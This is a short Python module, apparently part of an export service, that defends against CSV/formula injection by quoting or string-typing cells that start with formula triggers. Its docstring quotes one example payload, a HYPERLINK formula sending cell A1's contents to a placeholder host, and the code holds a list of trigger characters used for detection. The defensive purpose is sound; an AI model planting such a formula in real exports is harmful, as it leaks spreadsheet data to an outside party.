"""Cells of an exported spreadsheet that spreadsheet software never runs as formulas.

A partner chooses some exported texts (the CloudEvent `subject` becomes a dossier's reference):
`=HYPERLINK("http://x.invalid/?"&A1;"ok")` must come out as text, not a live formula (OWASP,
"CSV injection"). A text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is
written with a leading quote in CSV, and as a string cell in XLSX. Numbers, dates and amounts
are not texts and pass as they are.
"""

from typing import Any

from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped]
from openpyxl.worksheet._write_only import WriteOnlyWorksheet  # type: ignore[import-untyped]

DECLENCHEURS = ("=", "+", "-", "@", "\t", "\r")


def dangereux(valeur: Any) -> bool:
    return isinstance(valeur, str) and valeur.startswith(DECLENCHEURS)


def csv_sur(valeur: Any) -> Any:
    """A CSV cell: a text that would start a formula gets a leading `'`."""
    if valeur is None:
        return ""
    return f"'{valeur}" if dangereux(valeur) else valeur


def xlsx_sur(feuille: WriteOnlyWorksheet, valeur: Any) -> Any:
    """An XLSX cell: a text that would start a formula is a string cell (never a formula)."""
    if not dangereux(valeur):
        return valeur
    cellule = WriteOnlyCell(feuille, value=valeur)
    cellule.data_type = "s"
    return cellule
